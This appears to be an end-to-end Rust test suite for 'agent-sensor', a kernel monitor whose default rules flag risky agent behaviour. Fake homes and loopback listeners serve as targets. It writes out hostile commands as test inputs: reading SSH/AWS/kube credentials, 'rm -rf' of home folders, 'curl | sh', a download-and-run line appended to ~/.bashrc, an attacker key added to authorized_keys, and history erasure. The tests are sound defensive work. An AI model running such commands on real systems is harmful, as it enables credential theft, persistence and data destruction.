//! End-to-end: the default rule pack on the real kernel. Each rule's behaviour runs inside
//! `agent-sensor watch` against fixtures the test creates (a fake home with fake keys, loopback
//! listeners), and benign work raises nothing.

mod support;

use std::{net::TcpListener, os::unix::fs::PermissionsExt, path::Path, process::Command};

use serde_json::Value;
use support::{scenario::*, *};

#[test]
fn reading_a_private_key_alerts_and_three_keys_are_a_bulk_read() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    let alerts = s.run("cat ~/.ssh/id_rsa > /dev/null", &[]);
    let read = alert(&alerts, "credential-file-read");
    assert_eq!(str_field(read, "event.kind"), "alert");
    assert_eq!(
        str_field(read, "file.path"),
        s.home().join(".ssh/id_rsa").display().to_string()
    );
    assert_eq!(str_field(read, "process.name"), "cat");
    assert_eq!(str_field(read, "rule.ruleset"), "agent-sensor-default");
    assert_eq!(str_field(read, "agent_sensor.alert.severity"), "high");
    assert!(
        field(read, "threat.technique.id")
            .as_array()
            .is_some_and(|ids| !ids.is_empty())
    );
    assert!(!rule_ids(&alerts).contains(&"credential-bulk-read".to_string()));

    let alerts = s.run("cat ~/.ssh/id_rsa ~/.aws/credentials ~/.kube/config > /dev/null", &[]);
    // The kernel counts this threshold: the third distinct secret fires it, and each of the
    // three has its own guard alert (monitor mode: would-deny / would-kill).
    let bulk = alert(&alerts, "credential-bulk-read");
    assert_eq!(str_field(bulk, "agent_sensor.action"), "would-kill-tree");
    assert_eq!(
        str_field(bulk, "file.path"),
        s.home().join(".kube/config").display().to_string()
    );
    // The three guard verdicts come within the folding window: the first alert and one
    // follow-up that counts the other two exactly and names their paths.
    let (count, mut guarded) = matches_of(&alerts, "credential-read-blocked");
    assert_eq!(count, 3, "{guarded:?}");
    guarded.sort();
    let mut expected: Vec<String> = [".aws/credentials", ".kube/config", ".ssh/id_rsa"]
        .iter()
        .map(|file| s.home().join(file).display().to_string())
        .collect();
    expected.sort();
    assert_eq!(guarded, expected);
}

#[test]
fn destroying_the_home_directory_alerts() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    let alerts = s.run("rm -rf ~/Documents", &[]);
    let destructive = alert(&alerts, "destructive-command");
    assert_eq!(str_field(destructive, "event.action"), "exec");
    assert!(str_field(destructive, "process.command_line").starts_with("rm -rf"));
    assert!(!s.home().join("Documents").exists(), "monitor mode only reports");
}

#[test]
fn a_burst_of_protected_deletions_is_one_alert_and_a_folded_follow_up() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    for i in 0..62 {
        std::fs::write(s.home().join(format!("Documents/doc{i:02}.txt")), "x").expect("document");
    }
    let events = s.root.path().join("events.jsonl");
    let alerts = s.run("rm -rf ~/Documents", &["--events", &events.display().to_string()]);
    // The audit trail keeps every deletion.
    let documents = s.home().join("Documents").display().to_string();
    let deletions = read_events(&events)
        .iter()
        .filter(|e| matches!(action(e), "unlink" | "rmdir") && str_field(e, "file.path").starts_with(&documents))
        .count() as u64;
    assert_eq!(deletions, 64, "63 files and the directory");
    // The alerts: the first deletion's, then one follow-up folding the rest, counted exactly.
    let protected: Vec<&Value> = alerts
        .iter()
        .filter(|a| str_field(a, "rule.id") == "protected-delete")
        .collect();
    assert_eq!(protected.len(), 2, "{protected:#?}");
    assert!(field(protected[0], "agent_sensor.alert.folded").is_null());
    let folded = field(protected[1], "agent_sensor.alert.folded");
    assert_eq!(folded["count"].as_u64(), Some(deletions - 1), "{folded}");
    assert_eq!(folded["first_alert"], field(protected[0], "event.id").clone());
    assert_eq!(folded["sample"].as_array().map(Vec::len), Some(10), "{folded}");
    assert_eq!(folded["sample_truncated"], true);
    let actions: u64 = folded["actions"]
        .as_object()
        .map(|counts| counts.values().filter_map(Value::as_u64).sum())
        .unwrap_or(0);
    assert_eq!(
        actions,
        deletions - 1,
        "every verdict counted by what was done: {folded}"
    );
    assert!(folded["first"].as_str() <= folded["last"].as_str());
}

#[test]
fn an_agent_started_in_the_home_directory_still_has_its_home_protected() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    let other = s.home().join("projects/app");
    std::fs::create_dir_all(&other).expect("another project");
    std::fs::write(other.join("main.rs"), "fn main() {}\n").expect("its source");
    // Started in ~ itself: the home is no workspace, so removing a folder of it is destructive
    // and each deletion there protected (the kernel judges it outside any workspace).
    let alerts = s.run_in(&s.home(), "rm -rf projects", &[]);
    let ids = rule_ids(&alerts);
    for rule in ["destructive-command", "protected-delete"] {
        assert!(ids.iter().any(|id| id == rule), "no {rule} among {ids:?}");
    }
    let protected = alert(&alerts, "protected-delete");
    assert!(
        str_field(protected, "file.path").starts_with(&s.home().join("projects").display().to_string()),
        "{protected}"
    );

    // Started in ~/work: deleting its own build output and files stays quiet.
    let work = s.home().join("work");
    std::fs::create_dir_all(work.join("build")).expect("a project in the home");
    std::fs::write(work.join("build/app.o"), "o").expect("build output");
    std::fs::write(work.join("old.txt"), "old").expect("a file of it");
    let alerts = s.run_in(&work, "rm -rf build && rm old.txt", &[]);
    assert!(alerts.is_empty(), "{:?}", rule_ids(&alerts));
    assert!(!work.join("build").exists() && !work.join("old.txt").exists());
}

#[test]
fn deleting_many_files_the_session_did_not_create_alerts_whatever_the_tool() {
    if !require_root("rules e2e") {
        return;
    }
    for (tool, script) in [
        ("rm", "rm -r ../victims"),
        (
            "python",
            "/usr/bin/python3 -c 'import shutil; shutil.rmtree(\"../victims\")'",
        ),
    ] {
        let s = Scenario::new();
        let victims = s.root.path().join("victims");
        std::fs::create_dir_all(&victims).expect("victims");
        for i in 0..60 {
            std::fs::write(victims.join(format!("file{i}.txt")), "x").expect("victim file");
        }
        let alerts = s.run(script, &[]);
        let mass = alert(&alerts, "mass-delete");
        assert!(
            field(mass, "agent_sensor.alert.count").as_u64() >= Some(50),
            "{tool}: {mass}"
        );
        assert!(!victims.exists(), "{tool} deleted them");
    }
}

#[test]
fn connecting_outside_the_allowlist_alerts() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    // Loopback stands in for the internet: this site's allowlist admits only 10.0.0.0/8 and 443.
    let site = s.root.path().join("site-pack.yaml");
    std::fs::write(
        &site,
        "ruleset: e2e-site\noverrides:\n  lists:\n    egress_allowed_cidrs: {replace: [10.0.0.0/8]}\n    egress_allowed_ports: {replace: [443]}\n",
    )
    .expect("site pack");
    let listener = TcpListener::bind("127.0.0.2:0").expect("bind 127.0.0.2");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || for _ in listener.incoming() {});
    let defaults = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/default");
    let rules = [
        "--rules",
        &defaults.display().to_string(),
        "--rules",
        &site.display().to_string(),
    ];
    let alerts = s.run(&format!("exec 3<>/dev/tcp/127.0.0.2/{port}; exec 3>&-"), &rules);
    let egress = alert(&alerts, "unexpected-egress");
    assert_eq!(str_field(egress, "destination.ip"), "127.0.0.2");
    assert_eq!(field(egress, "destination.port").as_u64(), Some(port as u64));

    // With the shipped allowlist, loopback is a local dev server: nothing to report.
    let alerts = s.run(&format!("exec 3<>/dev/tcp/127.0.0.2/{port}; exec 3>&-"), &[]);
    assert!(
        !rule_ids(&alerts).contains(&"unexpected-egress".to_string()),
        "{alerts:?}"
    );
}

#[test]
fn running_a_file_written_to_tmp_or_piping_a_download_into_a_shell_alerts() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    let payload = s.scratch().join("payload");
    let alerts = s.run(
        &format!("cp /bin/true {p} && chmod +x {p} && {p}", p = payload.display()),
        &[],
    );
    let dropper = alert(&alerts, "download-then-exec");
    assert_eq!(
        str_field(dropper, "agent_sensor.exec.filename"),
        payload.display().to_string()
    );
    assert_eq!(
        field(dropper, "agent_sensor.alert.count").as_u64(),
        Some(2),
        "the write and the exec"
    );

    // Nothing listens on port 1: curl fails and sh runs nothing, but the command line says it all.
    let alerts = s.run("bash -c 'curl -fsS http://127.0.0.1:1/install.sh | sh'; true", &[]);
    alert(&alerts, "download-piped-to-shell");
}

#[test]
fn writing_shell_startup_files_and_authorized_keys_alerts() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    let alerts = s.run("echo 'curl -s http://127.0.0.1:1/x | sh' >> ~/.bashrc", &[]);
    let persistence = alert(&alerts, "persistence-write");
    assert_eq!(
        str_field(persistence, "file.path"),
        s.home().join(".bashrc").display().to_string()
    );
    let alerts = s.run("echo 'ssh-ed25519 AAAAattacker' >> ~/.ssh/authorized_keys", &[]);
    alert(&alerts, "persistence-write");
}

#[test]
fn erasing_shell_history_alerts() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    let alerts = s.run("rm -f ~/.bash_history", &[]);
    alert(&alerts, "history-tampering");
}

#[test]
fn ordinary_development_work_raises_nothing() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let dev_port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || for _ in listener.incoming() {});
    let script = format!(
        r#"set -e
cc -o hello src/main.c && ./hello
mkdir -p target/debug && for i in $(seq 80); do echo x > target/debug/obj$i.o; done
./hello && rm -rf target
mkdir -p node_modules/pkg && for i in $(seq 60); do echo x > node_modules/pkg/f$i.js; done
rm -rf node_modules
git init -q . && git add . && git commit -qm 'first commit'
grep -rn main src > /dev/null
cat src/main.c ~/.ssh/id_ed25519.pub ~/.gitconfig > /dev/null
ls -la ~ ~/.ssh > /dev/null
exec 3<>/dev/tcp/127.0.0.1/{dev_port}; exec 3>&-
/usr/bin/python3 -c 'import os, tempfile; d = tempfile.mkdtemp(); open(os.path.join(d, "t"), "w").write("x")'
"#
    );
    let alerts = s.run(&script, &[]);
    assert!(alerts.is_empty(), "benign work raised: {:#?}", rule_ids(&alerts));
}

#[test]
fn recorded_events_replay_to_the_same_alerts() {
    if !require_root("rules e2e") {
        return;
    }
    let s = Scenario::new();
    let events = s.root.path().join("events.jsonl");
    let live = s.run(
        "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.kube/config > /dev/null; rm -rf ~/Documents",
        &["--events", &events.display().to_string()],
    );
    let replayed = s.root.path().join("replayed.jsonl");
    let out = sensor()
        .args(["replay", "--events"])
        .arg(&events)
        .arg("--alerts")
        .arg(&replayed)
        .output()
        .expect("replay");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let replayed = read_events(&replayed);
    assert_eq!(rule_ids(&replayed), rule_ids(&live));
    assert!(rule_ids(&live).len() >= 3, "{:?}", rule_ids(&live));
}

#[test]
fn rule_authors_tools_work_from_the_command_line() {
    // No kernel needed: these read files only.
    let defaults = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/default");
    let out = sensor()
        .args(["rules", "test"])
        .arg(&defaults)
        .output()
        .expect("rules test");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}{}", String::from_utf8_lossy(&out.stderr));
    assert!(stdout.contains(" 0 failed"), "{stdout}");

    let out = sensor()
        .args(["rules", "check"])
        .arg(&defaults)
        .output()
        .expect("rules check");
    assert!(out.status.success());

    let dir = tempfile::tempdir().expect("tempdir");
    let broken = dir.path().join("broken.yaml");
    std::fs::write(
        &broken,
        "rules:\n  - id: bad\n    name: n\n    description: d\n    severity: high\n    when: {file.pth: /x}\n",
    )
    .expect("pack");
    std::fs::set_permissions(&broken, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let out = Command::new(sensor_binary())
        .args(["rules", "check"])
        .arg(&broken)
        .output()
        .expect("check");
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("{}:6:12: unknown event field `file.pth`", broken.display())),
        "{stderr}"
    );
    assert!(stderr.contains("did you mean `file.path`"), "{stderr}");
}
